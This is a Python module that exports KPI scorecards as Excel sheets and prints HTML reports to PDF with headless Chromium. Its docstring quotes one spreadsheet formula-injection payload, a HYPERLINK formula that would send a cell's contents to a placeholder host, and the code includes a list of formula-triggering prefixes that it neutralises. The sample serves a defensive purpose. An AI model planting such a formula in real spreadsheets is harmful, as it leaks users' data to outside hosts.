"""Exports people ask for: the scorecard as an Excel sheet laid out like the seed, the period summary
for HR systems, and PDF renderings of the reader's reports.

- `scorecard.xlsx` (per department, written with every run and re-written on sign-off):
  the seed's 13 column headers in the department's language, one row per indicator with
  its blanks filled in and the collected result, the weighted total, the grade, and the
  seed's signature lines (部门经理签字 / 上级主管领导签字) with who signed and when; set up
  to print on A4 landscape pages (see `scorecard_xlsx`).
- `summary.xlsx` (per period, `summary.summary_xlsx`): one row per department, for HR systems.
- PDF: headless Chromium (Debian's `chromium` package) prints the reader's HTML; the
  HTML embeds its CJK font, so the PDF has real glyphs.

Spreadsheet formula injection (a trust rule): a department name, a grade
label, a signer's name or a data value such as `=HYPERLINK("http://x/?"&A2)` must be
shown, never run. Every writer goes through the two helpers here:

- `xlsx_cell`: text becomes a string cell. openpyxl otherwise stores a str that
  starts with "=" as a formula and one that reads like an error code ("#N/A") as an
  error cell (`Cell._bind_value`); the value itself is kept unchanged, no quote added
  (a carriage return in it reads back as a line feed: XML's end-of-line rule).
- `csv_cell`: CSV has no cell types, so text that starts with `=`, `+`, `-`, `@`, tab
  or carriage return gets a leading `'` (OWASP's rule). Numbers (int, float, Decimal)
  are written as numbers, so `-1.41` keeps its sign and stays a number.

The xlsx bytes are reproducible: the document's created/modified properties and
every zip member's time come from `clock.now()` (`SOURCE_DATE_EPOCH` when set).
"""

from __future__ import annotations

import io
import shutil
import subprocess
import tempfile
from collections.abc import Iterable, Mapping, Sequence
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.page import PageMargins
from openpyxl.worksheet.properties import PageSetupProperties
from openpyxl.worksheet.worksheet import Worksheet
from openpyxl.writer.excel import ExcelWriter

from ..base import clock
from ..base.errors import InternalError, SetupError
from ..base.messages import say
from ..inputs.params import Params
from ..inputs.signing import role_label, rounds_of, time_parts
from ..inputs.template import SEED_ROLES, SignRole, Template
from ..scoring.result import DepartmentResult, json_real
from ..words.explain import grade_label
from ..words.sheet import SHEET_KEYS, sheet_row

SEED_SIGN_LABELS = {"manager": "manager_sign", "supervisor": "supervisor_sign"}  # the seed's words for its roles
THIN = Side(style="thin", color="999999")
BOX = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)
WRAP = Alignment(wrap_text=True, vertical="top")


FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ZIP_EPOCH = datetime(1980, 1, 1)  # the earliest time a zip member can carry


# -- safe cells -----------------------------------------------------------------------------
def xlsx_cell(sheet: Worksheet, value: Any) -> Any:
    """`value` for `sheet.append`: text as a string cell (never a formula or an error cell), unchanged; anything else as it is."""
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, row=1, column=1, value=value)  # `append` moves it to its row and column
    cell.data_type = "s"
    return cell


def csv_cell(value: Any) -> Any:
    """`value` for `csv.writer`: numbers as they are, None as empty, text with a leading `'` when it starts like a formula."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_PREFIXES) else text


def new_sheet(title: str) -> tuple[Workbook, Worksheet]:
    """A workbook and its one sheet, named `title`."""
    book = Workbook()
    sheet = book.active
    if not isinstance(sheet, Worksheet):
        raise InternalError("a new openpyxl workbook has no worksheet (please report it)")
    sheet.title = title
    return book, sheet


def print_on_a4_landscape(sheet: Worksheet, title_rows: int) -> None:
    """Print setup for a wide sheet: A4 landscape, fit to one page wide (as many tall as the rows need), centred,
    its first `title_rows` rows repeated at the top of every printed page."""
    setup = sheet.page_setup
    setup.orientation = "landscape"
    setup.paperSize = sheet.PAPERSIZE_A4
    setup.fitToWidth = 1
    setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    sheet.print_title_rows = f"1:{title_rows}"
    sheet.print_options.horizontalCentered = True
    sheet.page_margins = PageMargins(left=0.4, right=0.4, top=0.5, bottom=0.5)


def print_setup(sheet: Worksheet) -> tuple[Any, ...]:
    """What a sheet's print setup says (paper, orientation, fit, repeated rows): compared by `crosscheck.same_sheets`."""
    setup = sheet.page_setup
    fit = sheet.sheet_properties.pageSetUpPr
    return (
        setup.orientation,
        str(setup.paperSize),
        setup.fitToWidth,
        setup.fitToHeight,
        bool(fit and fit.fitToPage),
        sheet.print_title_rows,
    )


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    sheet.append([xlsx_cell(sheet, value) for value in values])


def put(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Set one cell like `xlsx_cell` does for `append`: text as a string cell, never a formula or an error cell."""
    cell = sheet.cell(row=row, column=column)
    if not isinstance(cell, Cell):  # a merged range's other cells take no value
        raise InternalError(f"cell {cell.coordinate} is inside a merged range (please report it)")
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


# -- reproducible bytes ---------------------------------------------------------------------
def workbook_bytes(book: Workbook, when: datetime | None = None) -> bytes:
    """The workbook as .xlsx bytes, dated `when` (naive UTC; default `clock.now()`) in its properties and its zip.

    `Workbook.save` would stamp `modified` with the wall clock, and `ZipFile.writestr`
    dates each member with it, so the workbook is written by openpyxl's `ExcelWriter`
    and its members are re-dated.
    """
    when = when or clock.utc_naive()
    book.properties.created = when
    book.properties.modified = when
    written = io.BytesIO()
    with ZipFile(written, "w", ZIP_DEFLATED, allowZip64=True) as archive:
        ExcelWriter(book, archive).write_data()
    date_time = max(when, ZIP_EPOCH).timetuple()[:6]
    dated = io.BytesIO()
    with (
        ZipFile(io.BytesIO(written.getvalue())) as source,
        ZipFile(dated, "w", ZIP_DEFLATED, allowZip64=True) as target,
    ):
        for member in source.infolist():
            info = ZipInfo(member.filename, date_time=date_time)
            info.compress_type = ZIP_DEFLATED
            info.external_attr = member.external_attr
            target.writestr(info, source.read(member))
    return dated.getvalue()


# scorecard.xlsx's layout: the seed's 13 columns and the score, their widths (characters) and where the
# labels below the table sit (merged ranges, 1-based columns): a label, its value, a date label and the date.
WIDTHS = (6, 28, 18, 7, 30, 11, 14, 12, 11, 30, 14, 10, 30, 8)
LABEL, VALUE, DATE_LABEL, DATE = (1, 2), (3, 5), (6, 6), (7, 8)
ZONE, COMMENT = 9, (10, 14)  # a signature's zone, and its comment
HEADER_ROW = 2  # row 1: the title; row 2: the column names (both repeated on every printed page)


def percent_format(weight: Decimal) -> str:
    """The number format that shows weight/100 as the weight written (`0%` for 10, `0.0%` for 12.5): no rounding."""
    places = max(0, -int(weight.normalize().as_tuple().exponent))
    return "0%" if places == 0 else f"0.{'0' * places}%"


def scorecard_xlsx(
    template: Template,
    lang: str,
    title: str,
    result: DepartmentResult,
    labels: Mapping[str, str],
    params: Params,
    signoffs: Sequence[Mapping[str, Any]] = (),
    when: datetime | None = None,
    *,
    roles: Sequence[SignRole] = SEED_ROLES,
    zone: str = "",
    current: str | None = None,
) -> bytes:
    """The filled-in KPI sheet as .xlsx bytes, for HR to print and file, in the department's language only.

    The rows are the scorecard notebook's (`sheet.sheet_row`, blanks filled from `params`, the
    period's effective params). A4 landscape, one page wide (as many pages tall as the rows need),
    the title and header rows repeated on every page. A weight is stored as the fraction weight/100
    (the float whose shortest text is that exact decimal: 0.1, 0.125) with a percent format that
    shows every decimal of the weight, so Excel sums and multiplies it as the percentage it is.
    Scores and the total are numbers with format `0.00`. The total, the grade and each signature
    sit in merged cells wide enough to read: a line per role of the template (`roles`, in order) for
    the current evidence (records that signed the manifest `current`), then each superseded round
    under its heading; each signature with its time as a date cell (local time in the department's
    `zone`, format `yyyy-mm-dd hh:mm`), the zone beside it, and the comment.
    """
    book, sheet = new_sheet(say("xlsx.sheet", lang))
    last = get_column_letter(len(WIDTHS))
    append_row(sheet, [title])
    sheet.merge_cells(f"A1:{last}1")
    sheet["A1"].font = Font(bold=True, size=14)
    sheet["A1"].alignment = Alignment(vertical="center")
    append_row(sheet, [say(f"label.{key}", lang) for key in (*SHEET_KEYS, "score")])
    for cell in sheet[HEADER_ROW]:
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="EEEEEE")
        cell.border = BOX
        cell.alignment = Alignment(wrap_text=True, vertical="center", horizontal="center")
    weight_at = SHEET_KEYS.index("weight") + 1
    for item in result.indicators:
        filled = sheet_row(template, item, lang, params)
        values: list[Any] = list(filled.cells)
        values[weight_at - 1] = float(filled.weight / 100)
        append_row(sheet, [*values, json_real(filled.score)])
        row = sheet.max_row
        for cell in sheet[row]:
            cell.border = BOX
            cell.alignment = WRAP
        sheet.cell(row=row, column=weight_at).number_format = percent_format(filled.weight)
        sheet.cell(row=row, column=len(values) + 1).number_format = "0.00"
    grade = result.grade or ""
    row = sheet.max_row + 2  # a blank row under the table
    _labelled(sheet, row, say("label.total", lang), json_real(result.total), "0.00")
    _labelled(sheet, row + 1, say("label.grade", lang), f"{grade} {grade_label(labels.get(grade, ''), lang)}".strip())
    row += 3
    rounds = rounds_of(list(signoffs), current)
    now = rounds[-1] if rounds and rounds[-1].current else None
    for role in roles:
        _signature(sheet, row, _role_label(roles, role.id, lang), now.signed(role.id) if now else None, zone, lang)
        row += 1
    for number, round_ in enumerate(rounds, start=1):
        if round_.current:
            continue
        row += 1
        sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=len(WIDTHS))
        put(sheet, row, 1, say("signoff.superseded_round", lang, number=number, manifest=round_.manifest_sha256[:16]))
        sheet.cell(row=row, column=1).font = Font(bold=True, italic=True)
        row += 1
        for record in round_.records:
            _signature(sheet, row, _role_label(roles, record.get("role"), lang), record, zone, lang)
            row += 1
    for column, width in enumerate(WIDTHS, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width
    sheet.freeze_panes = f"C{HEADER_ROW + 1}"
    setup = sheet.page_setup
    setup.orientation = "landscape"
    setup.paperSize = sheet.PAPERSIZE_A4
    setup.fitToWidth = 1
    setup.fitToHeight = 0  # as many pages tall as the rows need
    sheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    sheet.print_title_rows = f"1:{HEADER_ROW}"
    sheet.print_area = f"A1:{last}{sheet.max_row}"
    sheet.print_options.horizontalCentered = True
    sheet.page_margins = PageMargins(left=0.4, right=0.4, top=0.5, bottom=0.5)
    return workbook_bytes(book, when)


def _role_label(roles: Sequence[SignRole], role: Any, lang: str) -> str:
    """`部门经理签字`: the seed's words for the seed's roles, `<role>签字` for a template's own."""
    if role in SEED_SIGN_LABELS:
        return say(f"label.{SEED_SIGN_LABELS[role]}", lang)
    return say("label.role_sign", lang, role=role_label(tuple(roles), role, lang))


def _signature(sheet: Worksheet, row: int, label: str, signed: Mapping[str, Any] | None, zone: str, lang: str) -> None:
    """One signature line: the role, who signed, the date cell (a real date, local time), its zone and the comment."""
    _labelled(sheet, row, label, signed["name"] if signed else None)
    put(sheet, row, DATE_LABEL[0], say("xlsx.date", lang)).font = Font(bold=True)
    sheet.merge_cells(start_row=row, start_column=DATE[0], end_row=row, end_column=DATE[1])
    shown, where, local = time_parts(signed.get("time"), zone, lang) if signed else ("", "", None)
    date = put(sheet, row, DATE[0], local if local is not None else (signed.get("time") if signed else None))
    date.number_format = "yyyy-mm-dd hh:mm"
    date.alignment = Alignment(horizontal="left", vertical="center")
    if signed:
        put(sheet, row, ZONE, where)
        sheet.merge_cells(start_row=row, start_column=COMMENT[0], end_row=row, end_column=COMMENT[1])
        put(sheet, row, COMMENT[0], signed.get("comment") or None).alignment = WRAP
    for column in (*range(VALUE[0], VALUE[1] + 1), *range(DATE[0], DATE[1] + 1)):
        sheet.cell(row=row, column=column).border = Border(bottom=THIN)  # the line to sign and date on
    sheet.row_dimensions[row].height = 30


def _labelled(sheet: Worksheet, row: int, label: str, value: Any, number_format: str | None = None) -> None:
    """Row `row`: `label` bold in the merged label cells, `value` in the merged value cells beside it."""
    sheet.merge_cells(start_row=row, start_column=LABEL[0], end_row=row, end_column=LABEL[1])
    sheet.merge_cells(start_row=row, start_column=VALUE[0], end_row=row, end_column=VALUE[1])
    head = put(sheet, row, LABEL[0], label)
    head.font = Font(bold=True)
    head.alignment = Alignment(vertical="center")
    cell = put(sheet, row, VALUE[0], value)
    cell.alignment = Alignment(horizontal="left", vertical="center")
    if number_format:
        cell.number_format = number_format


CHROMIUM_HINT = "Chromium is not installed: run `make pdf-deps` (or `apt-get install chromium`) to make PDFs"


def chromium() -> str:
    """The headless browser's binary: Debian's `chromium` (or a Chrome of another name on PATH)."""
    for name in ("chromium", "chromium-browser", "google-chrome"):
        found = shutil.which(name)
        if found:
            return found
    raise SetupError(CHROMIUM_HINT)


def chromium_command(profile: Path, *args: str) -> list[str]:
    """A headless Chromium command that fetches nothing and keeps nothing: a throwaway profile, no sandbox (root)."""
    return [
        chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        f"--user-data-dir={profile}", *args,
    ]  # fmt: skip


def html_to_pdf(html: Path, pdf: Path, timeout: int = 120) -> None:
    """Print one HTML file to PDF with headless Chromium, laid out by the page's print stylesheet.

    The paper is the page's: Chromium's `--print-to-pdf` takes the size and margins of
    CSS `@page` (the reports' `kpi.css` asks for A4 landscape), and
    `--no-pdf-header-footer` leaves out the browser's date, title and URL lines; the page's
    own header (department · period · report) and `page / pages` footer are CSS page-margin
    boxes (`reports.page_margins_css`). Page 1 is the verdict; see README "Printing and PDFs".
    """
    pdf.parent.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as profile:
        tmp = pdf.with_name(f".{pdf.name}.tmp")
        command = chromium_command(
            Path(profile), "--no-pdf-header-footer", f"--print-to-pdf={tmp}", html.resolve().as_uri()
        )
        done = subprocess.run(command, capture_output=True, text=True, timeout=timeout, check=False)
        if done.returncode != 0 or not tmp.is_file():
            tmp.unlink(missing_ok=True)
            said = (done.stderr.strip().splitlines() or [f"exit code {done.returncode}, no message"])[-1]
            raise SetupError(f"{html}: Chromium could not print it to PDF: {said}")
        tmp.replace(pdf)
